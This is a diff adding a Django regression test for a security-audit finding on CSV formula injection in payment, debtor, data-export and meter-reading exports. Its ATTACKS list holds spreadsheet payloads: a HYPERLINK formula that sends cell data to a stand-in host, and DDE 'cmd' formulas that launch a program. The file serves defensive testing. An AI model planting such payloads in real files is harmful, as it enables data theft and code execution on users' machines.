@@ -1,0 +1,135 @@
+"""Finding 5 of the security audit: a bank transfer titled `=HYPERLINK(…)` landed unescaped in
+the resident's "my data" payments.csv, and fault_reports.csv, messages.csv and the debtors CSV
+were unescaped too. Every CSV the project writes goes through core.spreadsheets now; this walks
+every CSV endpoint with text that a spreadsheet would run, and the source for any other writer."""
+
+import csv
+import io
+import re
+import zipfile
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.urls import get_resolver, reverse
+
+from core.spreadsheets import inert
+from privacy import services as privacy_services
+from privacy.models import DataExport
+from tests.access import _walk
+from tests.billing.factories import ChargeFactory, PaymentFactory
+from tests.factories import AccountFactory, StaffFactory
+from tests.faults.factories import ReportFactory
+from tests.messaging.factories import thread_of
+from tests.meters.factories import MeterFactory, ReadingFactory, WindowFactory
+
+pytestmark = pytest.mark.django_db
+
+ATTACKS = [
+    '=HYPERLINK("http://zly.example/?x="&A1;"Kliknij")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+# Every URL that answers with a CSV (or a ZIP of CSVs), by name; a new one must be added here.
+CSV_URLS = {
+    "billing:history_csv",
+    "privacy:download",
+    "admin:billing_debtors_csv",
+    "admin:meters_readingwindow_export",
+}
+
+
+def rows_of(content: bytes):
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+
+
+def assert_inert(rows, where):
+    cells = [cell for row in rows for cell in row]
+    for cell in cells:
+        assert inert(cell) == cell, f"{where}: a spreadsheet would run {cell!r}"
+    return cells
+
+
+def test_the_helper_quotes_formulas_and_leaves_numbers():
+    assert [inert(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
+    assert inert("-12,50") == "-12,50" and inert("+48 600 123 456") == "'+48 600 123 456"
+    assert inert("1234,56") == "1234,56" and inert("Czynsz") == "Czynsz" and inert(7) == 7
+
+
+def test_no_csv_is_written_any_other_way():
+    root = Path(settings.BASE_DIR)
+    writers = []
+    for path in root.rglob("*.py"):
+        relative = path.relative_to(root).as_posix()
+        if relative.startswith((".venv/", "tests/", "core/spreadsheets.py")):
+            continue
+        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
+            writers.append(relative)
+    assert writers == []
+
+
+def test_every_csv_url_is_covered_here():
+    routes = _walk(get_resolver().url_patterns)
+    csv_routes = {name for route, name in routes if route.endswith((".csv", "export.csv/"))}
+    # The "my data" ZIP holds CSVs too.
+    assert csv_routes | {"privacy:download"} == CSV_URLS
+
+
+def test_the_payment_history_csv(owner_client, account):
+    for i, attack in enumerate(ATTACKS):
+        ChargeFactory(account=account, amount=Decimal("10.00") + i, title=attack)
+        PaymentFactory(account=account, amount=Decimal("10.00") + i, title=attack)
+    response = owner_client.get(reverse("billing:history_csv", args=[account.pk]) + "?rok=all")
+    assert response.status_code == 200
+    cells = assert_inert(rows_of(response.content), "history")
+    assert sum(1 for c in cells if c.startswith("'")) >= len(ATTACKS)
+
+
+def test_my_data_export(owner_client, owner, account):
+    for attack in ATTACKS:
+        PaymentFactory(account=account, amount=Decimal("5.00"), title=attack, payer=attack)
+        ChargeFactory(account=account, title=attack)
+        ReportFactory(reporter=owner, account=account, title=attack, description=attack)
+        thread_of(owner, subject=attack)
+    export = DataExport.objects.create(user=owner)
+    assert privacy_services.export_build(export_id=export.pk) == "done"
+    response = owner_client.get(reverse("privacy:download", args=[export.pk]))
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    names = [n for n in archive.namelist() if n.endswith(".csv")]
+    assert {"payments.csv", "charges.csv"} <= set(names)
+    quoted = 0
+    for name in names:
+        cells = assert_inert(rows_of(archive.read(name)), name)
+        quoted += sum(1 for c in cells if c.startswith("'="))
+    assert quoted >= 4  # the formula reached the files, made inert
+
+
+def test_the_debtors_csv(client):
+    client.force_login(StaffFactory(groups=["Księgowość"]))
+    for i, attack in enumerate(ATTACKS):
+        debtor = AccountFactory(number=f"80{i:02d}", holder_name=attack)
+        ChargeFactory(account=debtor, amount=Decimal("300.00"), due_date="2026-01-10")
+    response = client.get(reverse("admin:billing_debtors_csv"))
+    assert response.status_code == 200
+    rows = rows_of(response.content)
+    assert_inert(rows, "debtors")
+    assert sorted(row[1] for row in rows[1:]) == sorted("'" + a for a in ATTACKS)
+
+
+def test_the_meter_readings_export(client, account):
+    client.force_login(StaffFactory(groups=["BOK"]))
+    window = WindowFactory()
+    building = account.premises.building
+    building.street = ATTACKS[0]
+    building.save()
+    meter = MeterFactory(premises=account.premises, serial_number="=1+1")
+    ReadingFactory(meter=meter, value=Decimal("12.5"), read_on=window.starts_on)
+    response = client.get(reverse("admin:meters_readingwindow_export", args=[window.pk]))
+    assert response.status_code == 200
+    rows = rows_of(response.content)
+    assert_inert(rows, "readings")
+    assert rows[1][0] == "'" + ATTACKS[0] and rows[1][3] == "'=1+1"
